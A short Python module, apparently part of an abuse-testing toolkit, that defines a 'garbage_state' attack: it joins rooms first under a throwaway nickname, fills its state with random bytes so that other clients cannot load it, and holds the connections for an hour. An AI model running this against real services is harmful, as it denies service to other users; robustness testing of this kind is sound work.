import os

from abuse.attack import Attack


class GarbageState(Attack):
    name = "garbage_state"
    what = "is first in a room, and serves what nobody can load"

    def run(self):
        members = []
        for source in self.sources:
            one = self.member(source, nick="g", crc=0xD000)
            if one:
                one.state = os.urandom(1024)
                members.append(one)
        self.pump(members, 3600)
